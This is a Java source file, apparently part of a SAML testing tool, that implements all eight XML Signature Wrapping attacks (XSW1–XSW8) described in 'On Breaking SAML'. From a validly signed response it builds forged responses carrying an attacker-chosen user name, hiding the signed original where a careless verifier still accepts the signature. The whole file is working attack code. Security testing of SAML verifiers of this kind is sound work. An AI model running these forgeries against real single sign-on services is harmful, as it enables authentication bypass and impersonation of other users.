package io.musterbook.forge;

import java.util.LinkedHashMap;
import java.util.Map;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Signature wrapping: the signed element is kept somewhere, and an evil one is put where a careless reader looks. The
 * eight forms of "On Breaking SAML" (Somorovsky and others, USENIX Security 2012).
 */
public enum Wrapping {
    /** An evil response around the signature, which holds the signed one. */
    XSW1,
    /** An evil response with the signed one before the signature. */
    XSW2,
    /** An evil assertion before the signed one. */
    XSW3,
    /** An evil assertion around the signed one. */
    XSW4,
    /** The signature in the evil assertion, the signed one behind it. */
    XSW5,
    /** The signature in the evil assertion, the signed one in the signature. */
    XSW6,
    /** An evil assertion in extensions before the signed one. */
    XSW7,
    /** The signature in the evil assertion, the signed one in an object of the signature. */
    XSW8;

    private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";
    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

    /** Every form of the attack on one signed response, by name: with the same and with another id. */
    public static Map<String, byte[]> all(Answer good, Style style, Authority authority, String evilName) {
        var attacks = new LinkedHashMap<String, byte[]>();
        for (var wrapping : values()) {
            for (boolean sameId : new boolean[] {true, false}) {
                var document = Documents.parse(
                        new String(good.signed(style, authority), java.nio.charset.StandardCharsets.UTF_8));
                wrapping.apply(document, evilName, sameId);
                attacks.put(wrapping + "/" + style + (sameId ? "/same id" : "/other id"), Documents.print(document));
            }
        }
        return attacks;
    }

    private void apply(Document document, String evilName, boolean sameId) {
        if (this == XSW1 || this == XSW2) {
            wrapResponse(document, evilName, sameId);
        } else {
            wrapAssertion(document, evilName, sameId);
        }
    }

    private void wrapResponse(Document document, String evilName, boolean sameId) {
        var root = document.getDocumentElement();
        var original = clone(root);
        turnEvil(root, evilName, sameId);
        var signed = signatureHolder(root);
        removeSignatures(original);
        var signature = Documents.child(signed, "Signature");
        if (this == XSW1) {
            signature.appendChild(original);
        } else {
            signed.insertBefore(original, signature);
        }
    }

    private void wrapAssertion(Document document, String evilName, boolean sameId) {
        var root = document.getDocumentElement();
        var original = Documents.child(root, "Assertion");
        var evil = clone(original);
        turnEvil(evil, evilName, sameId);
        switch (this) {
            case XSW3 -> {
                removeSignatures(evil);
                root.insertBefore(evil, original);
            }
            case XSW4 -> {
                removeSignatures(evil);
                root.replaceChild(evil, original);
                evil.appendChild(original);
            }
            case XSW5 -> {
                root.replaceChild(evil, original);
                removeSignatures(original);
                root.appendChild(original);
            }
            case XSW7 -> {
                removeSignatures(evil);
                var extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
                extensions.appendChild(evil);
                root.insertBefore(extensions, Documents.child(root, "Status"));
            }
            default -> {
                root.replaceChild(evil, original);
                removeSignatures(original);
                hide(document, evil, original);
            }
        }
    }

    /** Puts the signed assertion into the evil one's signature. */
    private void hide(Document document, Element evil, Element original) {
        var holder = signatures(evil) ? evil : (Element) evil.getParentNode();
        if (!signatures(holder)) {
            evil.appendChild(original);
            return;
        }
        var signature = Documents.child(holder, "Signature");
        if (this == XSW6) {
            signature.appendChild(original);
        } else {
            var object = document.createElementNS(DSIG, "ds:Object");
            object.appendChild(original);
            signature.appendChild(object);
        }
    }

    private static Element signatureHolder(Element root) {
        return signatures(root) ? root : Documents.child(root, "Assertion");
    }

    private static boolean signatures(Element element) {
        for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element found && "Signature".equals(found.getLocalName())) {
                return true;
            }
        }
        return false;
    }

    private static void turnEvil(Element element, String evilName, boolean sameId) {
        if (!sameId) {
            element.setAttribute("ID", "evil" + element.getAttribute("ID"));
        }
        if (element.getElementsByTagNameNS("*", "NameID").item(0) instanceof Element nameId) {
            nameId.setTextContent(evilName);
        }
    }

    private static void removeSignatures(Element element) {
        var found = element.getElementsByTagNameNS(DSIG, "Signature");
        while (found.getLength() > 0) {
            var signature = found.item(0);
            signature.getParentNode().removeChild(signature);
        }
    }

    private static Element clone(Element element) {
        return (Element) element.cloneNode(true);
    }
}
